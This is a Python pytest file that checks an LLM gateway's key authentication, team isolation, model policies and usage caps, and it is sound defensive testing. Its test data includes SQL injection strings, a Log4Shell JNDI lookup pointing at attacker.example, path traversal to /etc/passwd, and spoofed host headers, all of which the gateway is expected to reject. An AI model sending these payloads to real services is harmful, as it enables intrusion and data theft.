"""Virtual keys, tenant isolation and governance through the whole ingress app, in process.

The app is wired as ingress/server.py wires it (`secured`: AuthMiddleware outside the
Idempotency-Key middleware, every API surface inside), over the in-memory bus, file store,
batch view and tenancy store: no Kafka, no sockets. Teams `acme` and `globex`, keys each.
"""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any, Final

import httpx
import orjson
import pytest

from ingress.anthropic_api import anthropic_routes
from ingress.app import REQUEST_ID_HEADER, Ingress, build_app
from ingress.auth import Authenticator, open_authenticator, warn_if_open
from ingress.batches_api import batches_routes
from ingress.bus import MemoryBus
from ingress.credentials import INVALID_MESSAGE, MISSING_MESSAGE
from ingress.files_api import files_routes
from ingress.idempotency import MemoryIdempotencyStore
from ingress.idempotency_middleware import IdempotencySettings
from ingress.queue_limit import BATCH_LINES_KEY
from ingress.request_tags import END_USER_METADATA_KEY
from ingress.server import authenticator_for, secured
from ingress.settings import IngressSettings
from schemas.records import RequestEnvelope, Result
from schemas.routes import Aliases, RoutesConfig, default_routes
from workers.batches.filestore import MemoryFileStore
from workers.batches.view import MemoryBatchView
from workers.tenancy.keys import Pepper, PepperError, issue_key
from workers.tenancy.model import KeyRecord, TagPolicy, TeamRecord, WalletLimits
from workers.tenancy.store import ConfigChange, TenancyStore

SECRET: Final = "unit-test-id-secret"
PEPPER: Final = Pepper("unit-test-pepper-0123456789abcdefghij")
BASE: Final = default_routes({})
ROUTES: Final = RoutesConfig(
    models=BASE.models,
    aliases=Aliases(teams={"acme": {"cheap": "gpt-4o-mini", "big": "gpt-4.1"}}),
)
CHAT: Final = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hello"}]}
COMPLETION: Final = {
    "id": "chatcmpl-1",
    "object": "chat.completion",
    "created": 1,
    "model": "gpt-4o-mini",
    "choices": [{"index": 0, "message": {"role": "assistant", "content": "hi"}}],
    "usage": {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4},
}
LINE: Final = (
    b'{"custom_id": "a", "method": "POST", "url": "/v1/chat/completions", '
    b'"body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}}\n'
)
INJECTIONS: Final = (
    "' OR 1=1 --",
    "Bearer ' OR 1=1 --",
    "Bearer tw-'; DROP TABLE keys; --",
    "Bearer \x00",
    "Bearer tw-" + "A" * 10_240,
    "Bearer tw-ÄÖÜ" + "a" * 40,
    "Bearer ${jndi:ldap://attacker.example/a}",
    "Basic YWRtaW46YWRtaW4=",
)
ID_INJECTIONS: Final = (
    "%27%20OR%201%3D1%20--",
    "%00",
    "req_%00",
    "x" * 10_240,
    "%C3%A4%E2%80%AE",
    "..%2F..%2Fetc%2Fpasswd",
    "%252e%252e",
    "batch_" + "0" * 32,
    "file-abcdefgh",
    "req_" + "0" * 40,
)


def _result(envelope: RequestEnvelope) -> Result:
    return {
        "request_id": envelope["request_id"],
        "team_id": envelope["team_id"],
        "key_id": envelope["key_id"],
        "mode": envelope["mode"],
        "execution_id": "exec-1",
        "status": "succeeded",
        "http_status": 200,
        "body": orjson.dumps(COMPLETION),
        "error_type": None,
        "requested_model": envelope["model"],
        "served_model": "gpt-4o-mini",
        "provider": "openai",
        "deployment": "mock",
        "attempts": 1,
        "prompt_tokens": 3,
        "completion_tokens": 1,
        "cached_tokens": 0,
        "reasoning_tokens": 0,
        "cache_write_tokens": 0,
        "received_at_ms": envelope["received_at_ms"],
        "finished_at_ms": envelope["received_at_ms"] + 5,
        "metadata": envelope["metadata"],
    }


@dataclass
class Tenants:
    """The tenancy store and the plain keys by name (shown once, kept here for the test)."""

    store: TenancyStore = field(default_factory=TenancyStore)
    plain: dict[str, str] = field(default_factory=dict)
    records: dict[str, KeyRecord] = field(default_factory=dict)

    def team(self, team: TeamRecord) -> None:
        self.store.apply(ConfigChange.upsert(team))

    def key(self, name: str, team_id: str, **fields: Any) -> None:
        issued = issue_key(PEPPER)
        record = KeyRecord(
            key_id=issued.key_id,
            team_id=team_id,
            key_digest=issued.key_digest,
            display_prefix=issued.display_prefix,
            name=name,
            **fields,
        )
        self.store.apply(ConfigChange.upsert(record))
        self.plain[name] = issued.plain_key
        self.records[name] = record

    def auth(self, name: str) -> dict[str, str]:
        return {"authorization": f"Bearer {self.plain[name]}"}


def tenants() -> Tenants:
    t = Tenants()
    t.team(TeamRecord("acme", "Acme", allowed_models=("gpt-4o-mini", "gpt-4o", "text-embedding-*")))
    t.team(
        TeamRecord(
            "globex",
            "Globex",
            wallet=WalletLimits(max_output_tokens=50, max_batch_lines=2, max_queued_requests=2),
        )
    )
    t.team(TeamRecord("doomed", "Doomed"))
    t.store.apply(ConfigChange.upsert(TagPolicy("support-bot", ("gpt-4o-mini",))))
    t.key("acme", "acme", tags=("team-a",))
    t.key("acme-mini", "acme", allowed_models=("gpt-4o-mini",))
    t.key("acme-support", "acme", tags=("support-bot",))
    t.key("acme-revoked", "acme", revoked_at_ms=1)
    t.key("acme-expired", "acme", expires_at_ms=1)
    t.key("globex", "globex")
    t.key("orphan", "doomed")
    t.store.apply(ConfigChange("team", "doomed", None))  # its team is gone, the key remains
    return t


@dataclass
class Stack:
    client: httpx.AsyncClient
    bus: MemoryBus
    tenants: Tenants
    view: MemoryBatchView

    def envelope(self) -> RequestEnvelope:
        return self.bus.published[-1][1]


@pytest.fixture
async def stack() -> AsyncIterator[Stack]:
    async for built in _stack():
        yield built


async def _stack(responder: Any = None, **settings: Any) -> AsyncIterator[Stack]:
    async def answer(envelope: RequestEnvelope) -> Result:
        return _result(envelope)

    t = tenants()
    bus = MemoryBus(responder or answer)
    files = MemoryFileStore()
    view = MemoryBatchView()
    config = IngressSettings(id_secret=SECRET, auth="keys", sync_timeout_s=5, **settings)
    authenticator = Authenticator("keys", t.store, PEPPER.digest)

    def batch_surface(ingress: Ingress) -> list[Any]:
        return [
            *files_routes(files),
            *batches_routes(files, view, gatekeeper=ingress.gatekeeper),
        ]

    app = build_app(
        config,
        ROUTES,
        bus,
        ingress_id="ingress-test",
        authenticator=authenticator,
        batch_states=lambda team: view.list(team, 10_000, None)[0],
        extra_routes=[anthropic_routes, batch_surface],
    )
    asgi = secured(  # exactly as ingress/server.py serves the app
        app,
        authenticator,
        MemoryIdempotencyStore(),
        IdempotencySettings(enabled=True),
        max_body_bytes=config.max_body_bytes,
        max_upload_bytes=1 << 20,
    )
    transport = httpx.ASGITransport(app=asgi)
    async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as client:
        yield Stack(client, bus, t, view)


def _error(response: httpx.Response, status: int, code: str | None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()["error"]
    assert body["code"] == code
    return body


# --- authentication -----------------------------------------------------------------------


async def test_no_key_is_a_401_invalid_api_key(stack: Stack) -> None:
    response = await stack.client.post("/v1/chat/completions", json=CHAT)
    body = _error(response, 401, "invalid_api_key")
    assert body["type"] == "authentication_error"
    assert body["message"] == MISSING_MESSAGE
    assert response.headers["www-authenticate"] == 'Bearer realm="tollway"'
    assert stack.bus.published == []


async def test_a_valid_key_acts_for_its_team_and_key(stack: Stack) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers=stack.tenants.auth("acme")
    )
    assert response.status_code == 200, response.text
    envelope = stack.envelope()
    assert envelope["team_id"] == "acme"
    assert envelope["key_id"] == stack.tenants.records["acme"].key_id
    assert envelope["metadata"]["tags"] == "team-a"  # the key's tags travel with the request


@pytest.mark.parametrize("name", ["acme-revoked", "acme-expired", "orphan"])
async def test_revoked_expired_and_teamless_keys_are_401_alike(stack: Stack, name: str) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers=stack.tenants.auth(name)
    )
    assert _error(response, 401, "invalid_api_key")["message"] == INVALID_MESSAGE
    assert stack.tenants.plain[name] not in response.text


async def test_an_unknown_well_formed_key_is_a_401(stack: Stack) -> None:
    headers = {"authorization": f"Bearer {issue_key(PEPPER).plain_key}"}
    response = await stack.client.post("/v1/chat/completions", json=CHAT, headers=headers)
    _error(response, 401, "invalid_api_key")


async def test_revoking_a_key_takes_effect_on_the_next_request(stack: Stack) -> None:
    headers = stack.tenants.auth("globex")
    assert (await stack.client.get("/v1/models", headers=headers)).status_code == 200
    revoked = KeyRecord(**{**_fields(stack.tenants.records["globex"]), "revoked_at_ms": 1})
    stack.tenants.store.apply(ConfigChange.upsert(revoked))
    _error(await stack.client.get("/v1/models", headers=headers), 401, "invalid_api_key")


def _fields(record: KeyRecord) -> dict[str, Any]:
    return {name: getattr(record, name) for name in record.__slots__}


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/v1/chat/completions"),
        ("POST", "/v1/async/chat/completions"),
        ("POST", "/v1/embeddings"),
        ("GET", "/v1/async/requests/req_" + "0" * 40),
        ("GET", "/v1/models"),
        ("POST", "/v1/files"),
        ("GET", "/v1/files/file-abcdefgh"),
        ("GET", "/v1/batches"),
        ("POST", "/v1/batches/batch_" + "0" * 32 + "/cancel"),
        ("GET", "/v1/no/such/route"),
    ],
)
@pytest.mark.parametrize("value", INJECTIONS, ids=range(len(INJECTIONS)))
async def test_injection_strings_in_authorization_are_401s_everywhere(
    stack: Stack, method: str, path: str, value: str
) -> None:
    raw = [(b"authorization", value.encode("utf-8"))]
    response = await stack.client.request(
        method, path, headers=raw, json={} if method == "POST" else None
    )
    body = _error(response, 401, "invalid_api_key")
    assert body["message"] == INVALID_MESSAGE
    assert stack.bus.published == []


async def test_injection_in_x_api_key_on_messages_is_an_anthropic_401(stack: Stack) -> None:
    response = await stack.client.post(
        "/v1/messages",
        headers={"x-api-key": "' OR 1=1 --", "anthropic-version": "2023-06-01"},
        json={
            "model": "gpt-4o-mini",
            "max_tokens": 5,
            "messages": [{"role": "user", "content": "hi"}],
        },
    )
    assert response.status_code == 401
    assert response.json() == {
        "type": "error",
        "error": {"type": "authentication_error", "message": INVALID_MESSAGE},
    }


async def test_x_api_key_works_on_messages_only(stack: Stack) -> None:
    key = stack.tenants.plain["acme"]
    message = {
        "model": "gpt-4o-mini",
        "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
    }
    ok = await stack.client.post("/v1/messages", json=message, headers={"x-api-key": key})
    assert ok.status_code == 200, ok.text
    assert stack.envelope()["team_id"] == "acme"
    refused = await stack.client.post("/v1/chat/completions", json=CHAT, headers={"x-api-key": key})
    _error(refused, 401, "invalid_api_key")


@pytest.mark.parametrize(
    "extra",
    [
        {"host": "localhost"},
        {"host": "127.0.0.1"},
        {"host": "internal.admin"},
        {"x-forwarded-host": "localhost", "x-forwarded-for": "127.0.0.1"},
        {"x-real-ip": "127.0.0.1", "forwarded": "for=127.0.0.1;host=localhost"},
    ],
)
async def test_the_host_header_plays_no_part(stack: Stack, extra: dict[str, str]) -> None:
    refused = await stack.client.post("/v1/chat/completions", json=CHAT, headers=extra)
    _error(refused, 401, "invalid_api_key")
    accepted = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers={**extra, **stack.tenants.auth("globex")}
    )
    assert accepted.status_code == 200
    assert stack.envelope()["team_id"] == "globex"


async def test_health_probes_need_no_key(stack: Stack) -> None:
    assert (await stack.client.get("/healthz")).status_code == 200
    assert (await stack.client.get("/readyz")).status_code == 200


# --- isolation ------------------------------------------------------------------------------


async def test_an_async_result_is_readable_by_its_team_only(stack: Stack) -> None:
    acme, globex = stack.tenants.auth("acme"), stack.tenants.auth("globex")
    created = await stack.client.post("/v1/async/chat/completions", json=CHAT, headers=acme)
    assert created.status_code == 202
    request_id = created.json()["id"]
    own = await stack.client.get(f"/v1/async/requests/{request_id}", headers=acme)
    assert own.status_code == 200
    other = await stack.client.get(f"/v1/async/requests/{request_id}", headers=globex)
    body = _error(other, 404, "not_found")
    assert request_id not in body["message"]
    same_team_other_key = stack.tenants.auth("acme-mini")
    assert (
        await stack.client.get(f"/v1/async/requests/{request_id}", headers=same_team_other_key)
    ).status_code == 200


async def test_files_and_batches_are_readable_by_their_team_only(stack: Stack) -> None:
    acme, globex = stack.tenants.auth("acme"), stack.tenants.auth("globex")
    uploaded = await stack.client.post(
        "/v1/files", files={"file": ("in.jsonl", LINE)}, data={"purpose": "batch"}, headers=acme
    )
    assert uploaded.status_code == 200, uploaded.text
    file_id = uploaded.json()["id"]
    create = {
        "input_file_id": file_id,
        "endpoint": "/v1/chat/completions",
        "completion_window": "24h",
    }
    batch = await stack.client.post("/v1/batches", json=create, headers=acme)
    assert batch.status_code == 200, batch.text
    batch_id = batch.json()["id"]
    assert not batch.json()["metadata"]  # the reserved keys (lines, key id) stay hidden
    assert stack.view.states[batch_id]["metadata"][BATCH_LINES_KEY] == "1"

    for path in (f"/v1/files/{file_id}", f"/v1/files/{file_id}/content", f"/v1/batches/{batch_id}"):
        assert (await stack.client.get(path, headers=acme)).status_code == 200
        _error(await stack.client.get(path, headers=globex), 404, "not_found")
    _error(
        await stack.client.post(f"/v1/batches/{batch_id}/cancel", headers=globex), 404, "not_found"
    )
    _error(await stack.client.post("/v1/batches", json=create, headers=globex), 404, "not_found")
    listed = await stack.client.get("/v1/batches", headers=globex)
    assert listed.json()["data"] == []
    assert [
        b["id"] for b in (await stack.client.get("/v1/batches", headers=acme)).json()["data"]
    ] == [batch_id]


@pytest.mark.parametrize(
    "template",
    [
        "/v1/async/requests/{}",
        "/v1/files/{}",
        "/v1/files/{}/content",
        "/v1/batches/{}",
    ],
)
@pytest.mark.parametrize("raw_id", ID_INJECTIONS, ids=range(len(ID_INJECTIONS)))
async def test_injection_strings_in_id_parameters_are_404s(
    stack: Stack, template: str, raw_id: str
) -> None:
    response = await stack.client.get(template.format(raw_id), headers=stack.tenants.auth("acme"))
    assert response.status_code in {400, 404}, response.text
    assert response.json()["error"]["type"] in {"not_found_error", "invalid_request_error"}


@pytest.mark.parametrize("raw_id", ID_INJECTIONS, ids=range(len(ID_INJECTIONS)))
async def test_injection_strings_in_the_cancel_id_are_404s(stack: Stack, raw_id: str) -> None:
    response = await stack.client.post(
        f"/v1/batches/{raw_id}/cancel", headers=stack.tenants.auth("acme")
    )
    assert response.status_code in {400, 404}, response.text


async def test_idempotency_keys_are_scoped_per_team(stack: Stack) -> None:
    acme, globex = stack.tenants.auth("acme"), stack.tenants.auth("globex")
    first = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers={**acme, "Idempotency-Key": "k-1"}
    )
    replay = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers={**acme, "Idempotency-Key": "k-1"}
    )
    other = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers={**globex, "Idempotency-Key": "k-1"}
    )
    assert replay.headers[REQUEST_ID_HEADER] == first.headers[REQUEST_ID_HEADER]
    assert other.headers[REQUEST_ID_HEADER] != first.headers[REQUEST_ID_HEADER]
    assert [e["team_id"] for _, e in stack.bus.published] == ["acme", "globex"]


# --- governance -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "model", "policy"),
    [
        ("acme", "gpt-4.1", "team"),
        ("acme", "big", "team"),  # the alias resolves first: `big` is gpt-4.1
        ("acme-mini", "gpt-4o", "key"),
        ("acme-support", "gpt-4o", "tag:support-bot"),
    ],
)
async def test_a_model_outside_a_policy_is_a_403_naming_it(
    stack: Stack, key: str, model: str, policy: str
) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json={**CHAT, "model": model}, headers=stack.tenants.auth(key)
    )
    body = _error(response, 403, "model_not_allowed")
    assert body["type"] == "permission_error"
    assert f"policy: {policy}" in body["message"]
    assert stack.bus.published == []


async def test_an_alias_to_an_approved_model_passes(stack: Stack) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json={**CHAT, "model": "cheap"}, headers=stack.tenants.auth("acme")
    )
    assert response.status_code == 200


async def test_request_tags_narrow_and_travel_with_the_end_user(stack: Stack) -> None:
    acme = stack.tenants.auth("acme")
    refused = await stack.client.post(
        "/v1/chat/completions",
        json={**CHAT, "model": "gpt-4o"},
        headers={**acme, "x-tollway-tags": "support-bot"},
    )
    _error(refused, 403, "model_not_allowed")
    accepted = await stack.client.post(
        "/v1/chat/completions",
        json={**CHAT, "user": "body-user", "metadata": {"tags": "web,beta"}},
        headers={**acme, "x-tollway-tags": "support-bot", "x-tollway-end-user": "ana@example.com"},
    )
    assert accepted.status_code == 200, accepted.text
    metadata = stack.envelope()["metadata"]
    assert metadata["tags"] == "beta,support-bot,team-a,web"
    assert metadata[END_USER_METADATA_KEY] == "ana@example.com"
    await stack.client.post("/v1/chat/completions", json={**CHAT, "user": "u-7"}, headers=acme)
    assert stack.envelope()["metadata"][END_USER_METADATA_KEY] == "u-7"


@pytest.mark.parametrize(
    "headers",
    [
        {"x-tollway-tags": "' OR 1=1 --"},
        {"x-tollway-tags": "a" * 10_240},
        {"x-tollway-end-user": ""},
    ],
)
async def test_malformed_tags_or_end_users_are_400s(stack: Stack, headers: dict[str, str]) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers={**stack.tenants.auth("acme"), **headers}
    )
    _error(response, 400, None)  # InvalidRequest carries no code


async def test_models_lists_what_the_caller_may_use(stack: Stack) -> None:
    listed = await stack.client.get("/v1/models", headers=stack.tenants.auth("acme-support"))
    assert [m["id"] for m in listed.json()["data"]] == ["gpt-4o-mini"]
    everything = await stack.client.get("/v1/models", headers=stack.tenants.auth("globex"))
    assert len(everything.json()["data"]) == len(ROUTES.public_names())


async def test_wallet_caps_name_the_limit(stack: Stack) -> None:
    globex = stack.tenants.auth("globex")
    response = await stack.client.post(
        "/v1/chat/completions", json={**CHAT, "max_tokens": 51}, headers=globex
    )
    body = _error(response, 400, "wallet_limit_exceeded")
    assert "max_output_tokens=50" in body["message"]
    assert body["param"] == "max_tokens"
    ok = await stack.client.post(
        "/v1/chat/completions", json={**CHAT, "max_tokens": 50}, headers=globex
    )
    assert ok.status_code == 200
    assert orjson.loads(stack.envelope()["body"])["max_tokens"] == 50  # as sent


async def test_an_uncapped_request_gets_the_wallet_cap_not_the_providers_maximum(
    stack: Stack,
) -> None:
    response = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers=stack.tenants.auth("globex")
    )
    assert response.status_code == 200
    sent = orjson.loads(stack.envelope()["body"])
    assert sent["max_completion_tokens"] == 50
    assert "max_tokens" not in sent
    free = await stack.client.post(
        "/v1/chat/completions", json=CHAT, headers=stack.tenants.auth("acme")
    )
    assert free.status_code == 200
    assert "max_completion_tokens" not in orjson.loads(stack.envelope()["body"])  # no cap


async def test_the_gateway_default_input_cap_applies_to_every_team() -> None:
    async for stack in _stack(wallet_max_input_bytes=200):
        big = {**CHAT, "messages": [{"role": "user", "content": "x" * 300}]}
        response = await stack.client.post(
            "/v1/chat/completions", json=big, headers=stack.tenants.auth("acme")
        )
        body = _error(response, 400, "wallet_limit_exceeded")
        assert "gateway's default limit max_input_bytes=200" in body["message"]


async def test_batch_lines_and_the_queue_are_capped_at_create() -> None:
    async def silent(_: RequestEnvelope) -> None:
        return None

    async for stack in _stack(silent):
        globex = stack.tenants.auth("globex")
        big = await stack.client.post(
            "/v1/files",
            files={"file": ("in.jsonl", LINE * 3)},
            data={"purpose": "batch"},
            headers=globex,
        )
        create = {
            "input_file_id": big.json()["id"],
            "endpoint": "/v1/chat/completions",
            "completion_window": "24h",
        }
        body = _error(
            await stack.client.post("/v1/batches", json=create, headers=globex),
            400,
            "wallet_limit_exceeded",
        )
        assert "max_batch_lines=2" in body["message"]

        one = await stack.client.post("/v1/async/chat/completions", json=CHAT, headers=globex)
        assert one.status_code == 202
        two = await stack.client.post(
            "/v1/files",
            files={"file": ("in.jsonl", LINE * 2)},
            data={"purpose": "batch"},
            headers=globex,
        )
        create["input_file_id"] = two.json()["id"]
        _error(
            await stack.client.post("/v1/batches", json=create, headers=globex),
            429,
            "queue_limit_exceeded",
        )


async def test_async_work_is_capped_per_team_and_not_for_others() -> None:
    async def silent(_: RequestEnvelope) -> None:
        return None

    async for stack in _stack(silent):
        globex, acme = stack.tenants.auth("globex"), stack.tenants.auth("acme")
        for _ in range(2):
            accepted = await stack.client.post(
                "/v1/async/chat/completions", json=CHAT, headers=globex
            )
            assert accepted.status_code == 202
        refused = await stack.client.post("/v1/async/chat/completions", json=CHAT, headers=globex)
        _error(refused, 429, "queue_limit_exceeded")
        assert refused.headers["retry-after"] == "1"
        other_team = await stack.client.post("/v1/async/chat/completions", json=CHAT, headers=acme)
        assert other_team.status_code == 202


# --- modes --------------------------------------------------------------------------------------


async def test_open_mode_reads_no_key_and_warns(caplog: pytest.LogCaptureFixture) -> None:
    bus = MemoryBus(_answer)
    app = build_app(
        IngressSettings(id_secret=SECRET, auth="open"),
        ROUTES,
        bus,
        authenticator=open_authenticator(),
    )
    with caplog.at_level(logging.WARNING, logger="tollway.ingress.auth"):
        warn_if_open(open_authenticator())
    assert "TOLLWAY_AUTH=open" in caplog.text
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
        response = await c.post(
            "/v1/chat/completions", json=CHAT, headers={"authorization": "' OR 1=1 --"}
        )
    assert response.status_code == 200
    envelope = bus.published[0][1]
    assert (envelope["team_id"], envelope["key_id"]) == ("default", None)


async def _answer(envelope: RequestEnvelope) -> Result:
    return _result(envelope)


def test_keys_mode_is_the_default_and_needs_a_tenancy_view(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TOLLWAY_AUTH", raising=False)
    settings = IngressSettings()
    assert settings.auth == "keys"
    with pytest.raises(PepperError):  # what ingress/server.py builds from the settings
        authenticator_for(settings, TenancyStore(), None)
    with pytest.raises(ValueError, match="TOLLWAY_AUTH=keys"):
        Authenticator("keys")


def test_the_server_refuses_keys_mode_without_a_pepper() -> None:
    store = TenancyStore()
    with pytest.raises(PepperError, match="TOLLWAY_KEY_PEPPER"):
        authenticator_for(IngressSettings(auth="keys"), store, None)
    assert authenticator_for(IngressSettings(auth="keys"), store, PEPPER).mode == "keys"
    assert authenticator_for(IngressSettings(auth="open"), store, None).mode == "open"
